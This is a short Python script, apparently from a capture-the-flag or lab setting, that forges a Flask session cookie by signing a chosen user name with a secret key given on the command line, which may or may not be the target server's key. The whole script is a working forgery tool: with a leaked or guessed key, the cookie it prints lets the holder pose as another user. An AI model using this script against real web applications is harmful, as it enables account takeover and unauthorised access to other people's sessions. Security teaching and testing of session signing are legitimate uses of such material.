"""Make a session cookie with a key that may or may not be the server's.

python forge.py KEY NAME
"""

import sys

from flask import Flask, session
from flask.sessions import SecureCookieSessionInterface

app = Flask(__name__)
app.config["SECRET_KEY"] = sys.argv[1]

with app.test_request_context():
    session["name"] = sys.argv[2]
    signer = SecureCookieSessionInterface().get_signing_serializer(app)
    print(signer.dumps(dict(session)))
